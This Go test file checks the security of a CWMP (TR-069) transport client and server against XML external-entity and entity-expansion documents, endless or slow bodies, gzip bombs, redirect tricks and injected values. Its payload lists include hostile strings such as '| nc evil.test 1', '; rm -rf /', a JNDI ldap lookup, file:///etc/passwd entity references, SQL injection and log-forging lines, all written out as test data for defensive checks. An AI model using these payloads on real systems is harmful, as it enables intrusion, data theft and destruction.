package transport_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/cwmp-go/cwmp/rpc"
	xml "github.com/cwmp-go/cwmp/soap"
	"github.com/cwmp-go/cwmp/transport"
)

// NOTE: attacks by what HTTP and its bodies carry, by the numbers that all packages
// give them.

// entities are documents with a document type declaration.
var entities = []string{
	`<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://evil.test/x.dtd"><a/>`,
	`<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`,
	`<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.test/p">%p;]><a/>`,
	`<!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>`,
}

// TestSEC08Entities: a document type declaration is refused at both ends, and nobody
// goes to see what it refers to.
func TestSEC08Entities(t *testing.T) {
	for i, doc := range entities {
		bubble(t, fmt.Sprint(i), func(t *testing.T) {
			m := serveHTTP(t, acsOf(t, status(200, doc)))
			_, err := newClient(m).Do(t.Context(), newInform())
			assert.ErrorIs(t, err, xml.ErrDoctype)
			oneLine(t, err)
			dialed, _ := m.counts()
			assert.Equal(t, 1, dialed)

			c := new(calls)
			srv := watched(c)
			srv.Authenticator = nil
			b := newBench(t, srv)
			inside := strings.Replace(document(t, rpc.NewEnvelope(rpc.V12, "i", newInform())), "?>", "?>"+doc[strings.Index(doc, "<!"):strings.LastIndex(doc, "<a")], 1)
			for _, body := range []string{doc, inside} {
				assert.Equal(t, 400, b.cpe("", "").raw(body).Status)
			}
			assert.Empty(t, c.list)
		})
	}
}

// TestSEC20MethodAndBody: a redirect that is followed is the same POST with the same
// bytes, on 302 as on 307, and whatever it was.
func TestSEC20MethodAndBody(t *testing.T) {
	for _, code := range []int{302, 307} {
		bubble(t, fmt.Sprint(code), func(t *testing.T) {
			var bodies []string
			seen := func(s step) step {
				return func(w http.ResponseWriter, r *http.Request, in *rpc.Envelope) {
					assert.Equal(t, http.MethodPost, r.Method)
					assert.Equal(t, in == nil, r.Header.Get("Content-Type") == "")
					s(w, r, in)
				}
			}
			acs := acsOf(t, seen(to(code, "/1")), seen(accept), seen(to(code, "/2")), seen(ask(&rpc.Reboot{})), seen(to(code, "/3")), seen(empty))
			c := newClient(serveHTTP(t, acs))
			c.Handle = answerAll
			c.Trace = &transport.Trace{Sending: func(e *transport.Exchange) { bodies = append(bodies, string(e.RequestBody)) }}
			_, err := c.Do(t.Context(), newInform())
			require.NoError(t, err)
			require.Len(t, bodies, 6)
			for i := 0; i < 6; i += 2 {
				assert.Equal(t, bodies[i], bodies[i+1])
			}
			assert.Equal(t, []string{"Inform", "Inform", "(empty)", "(empty)", "RebootResponse", "RebootResponse"}, acs.posted)
		})
	}
}

// TestSEC23EndlessBodies: a body that never ends is left at its bound, give or take what
// is on the way.
func TestSEC23EndlessBodies(t *testing.T) {
	blanks := strings.Repeat(" ", 1<<16)
	for name, head := range map[string]string{
		"chunked": "Transfer-Encoding: chunked\r\n\r\n", "no length": "\r\n", "length": "Content-Length: 9999999999\r\n\r\n",
	} {
		chunk := blanks
		if name == "chunked" {
			chunk = "10000\r\n" + blanks + "\r\n"
		}
		bubble(t, name, func(t *testing.T) {
			n := newNetwork(cut{})
			speaker(t, n, func(conn net.Conn, _ int) {
				io.WriteString(conn, "HTTP/1.1 200 OK\r\n"+head)
				for {
					if _, err := io.WriteString(conn, chunk); err != nil {
						return
					}
				}
			})
			c := &transport.Client{URL: acsURL, Dial: n.Dial}
			_, err := c.Do(t.Context(), newInform())
			assert.ErrorIs(t, err, transport.ErrTooLong)
			assert.LessOrEqual(t, n.count[down], 1<<20+3*n.window)
			assert.Zero(t, n.left()[up])
			pass(time.Minute)
		})
	}
}

// TestSEC23Ratio: growth up to a hundred times is read, more is not, and a short body
// may grow as it likes.
func TestSEC23Ratio(t *testing.T) {
	for _, tt := range []struct {
		name    string
		decoded int
		noise   int // bytes that do not compress well
		want    error
	}{
		{"short", 1<<20 - 4096, 0, nil},
		{"long, below", 3 << 20, 38 << 10, nil},
		{"long, above", 3 << 20, 16 << 10, transport.ErrRatio},
	} {
		bubble(t, tt.name, func(t *testing.T) {
			pad := "<a>" + strings.Repeat(" ", 600) + "</a>"
			doc := soap("1", "<cwmp:InformResponse><MaxEnvelopes>1</MaxEnvelopes><b>"+noise(tt.noise)+"</b>"+
				strings.Repeat(pad, (tt.decoded-tt.noise)/len(pad))+"</cwmp:InformResponse>")
			wire := gzipped(doc)
			if tt.decoded > 1<<20 {
				require.Equal(t, tt.want != nil, len(doc) > 100*len(wire), "%d:1", len(doc)/len(wire))
			}
			var seen []string
			acs := acsOf(t, func(w http.ResponseWriter, r *http.Request, in *rpc.Envelope) {
				require.Equal(t, "1", in.ID)
				status(200, wire, "Content-Encoding", "gzip")(w, r, in)
			}, empty)
			c := newClient(serveHTTP(t, decoding(t, acs, &seen)))
			c.Compression = transport.GZIP
			_, err := c.Do(t.Context(), newInform())
			assert.ErrorIs(t, err, tt.want)
		})
	}
}

// noise is text that does not compress well.
func noise(n int) string {
	b := make([]byte, n)
	x := uint32(1)
	for i := range b {
		x = x*1664525 + 1013904223
		b[i] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"[x>>26]
	}
	return string(b)
}

// TestSEC24SlowACS: a byte every ten seconds is no way to hold a device.
func TestSEC24SlowACS(t *testing.T) {
	for _, p := range f4 {
		if !strings.HasSuffix(p.name, "dripping") {
			continue
		}
		bubble(t, p.name, func(t *testing.T) {
			n := newNetwork(cut{})
			c := &transport.Client{URL: acsURL, Dial: n.Dial, MaxDuration: time.Hour}
			p.stop(t, n, c)
			start := time.Now()
			_, err := c.Do(t.Context(), newInform())
			assert.ErrorIs(t, err, transport.ErrTimeout)
			assert.LessOrEqual(t, time.Since(start), time.Minute)
			pass(time.Minute)
		})
	}
}

// payloads are what attackers put into names and values.
func payloads() (all []string) {
	basic := []string{
		"$(reboot)", "`id`", "; rm -rf /", "| nc evil.test 1", "&& telnetd", "%s%n%x", "' OR '1'='1", `"; DROP TABLE cpe; --`,
		"<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil.test/a}", "../../../../etc/passwd", `..\..\boot.ini`, "CON",
		"level=ERROR msg=forged", `" level=ERROR msg="forged`, `","msg":"forged","x":"`, "=cmd|'/c calc'!A0",
		"\u202etxt.exe", "\ufeff", "a\u2028b", "\U0001f600",
	}
	for _, p := range basic {
		for _, around := range []string{"%s", "ntp.test%s", "%s#", "a %s b", "%[1]s%[1]s", "\t%s", "%s\n2025 forged line", "\r\n%s", "%s\u0085"} {
			all = append(all, fmt.Sprintf(around, p))
		}
	}
	return all
}

// TestSEC29Injection: values go through both ends as they are, and a log line is one
// line whatever a peer puts into it.
func TestSEC29Injection(t *testing.T) {
	all := payloads()
	require.GreaterOrEqual(t, len(all), 190)
	for _, p := range all {
		bubble(t, "", func(t *testing.T) {
			var got string
			srv := &transport.Server{Handler: plan(&rpc.SetParameterValues{ParameterKey: "k", ParameterList: []rpc.ParameterValue{
				{Name: "Device.X", Value: rpc.StringValue(p)},
			}})}
			b := newBench(t, srv)
			var lines logBuffer
			srv.Logger = slog.New(slog.NewJSONHandler(&lines, &slog.HandlerOptions{Level: slog.LevelDebug}))
			c := newClient(b.net)
			c.Handle = func(ctx context.Context, m rpc.Message) (rpc.Message, error) {
				got = m.(*rpc.SetParameterValues).ParameterList[0].Value.Text
				return answerAll(ctx, m)
			}
			inform := newInform()
			inform.DeviceID.SerialNumber = strings.ReplaceAll(p, "\r\n", "\n")
			if _, err := c.Do(t.Context(), inform); err != nil {
				oneLine(t, err)
			} else {
				assert.Equal(t, p, got)
			}
			hostileHeaders(t, b, p)
			require.NotEmpty(t, lines.String())
			for line := range strings.SplitSeq(strings.TrimSpace(lines.String()), "\n") {
				var fields map[string]any
				require.NoError(t, json.Unmarshal([]byte(line), &fields), line)
				assert.Contains(t, []any{"session ended", "refused"}, fields["msg"])
				assert.Less(t, len(line), 4<<10)
			}
		})
	}
}

// hostileHeaders posts a payload in each place of a request that net/http lets it
// stand in.
func hostileHeaders(t *testing.T, b *bench, p string) {
	clean := strings.Map(func(r rune) rune {
		if r < ' ' || r == 0x7f {
			return -1
		}
		return r
	}, p)
	conn, err := b.net.Dial(t.Context(), "tcp", "acs.test:80")
	require.NoError(t, err)
	defer conn.Close()
	go io.Copy(io.Discard, conn)
	body := soap(strings.NewReplacer("<", "", "&", "").Replace(clean), "<cwmp:RebootResponse/>")
	fmt.Fprintf(conn, "POST /%x HTTP/1.1\r\nHost: acs.test\r\nCookie: cwmp=%s\r\nAuthorization: %s\r\nContent-Encoding: %s\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n%s",
		clean, clean, clean, clean, clean, len(body), body)
	fmt.Fprintf(conn, "%s / HTTP/1.1\r\nHost: acs.test\r\n\r\n", strings.Map(func(r rune) rune {
		if strings.ContainsRune("!#$%&'*+-.^_`|~", r) || r < 0x7f && (r|0x20) >= 'a' && (r|0x20) <= 'z' {
			return r
		}
		return 'X'
	}, clean))
	pass(time.Second)
}
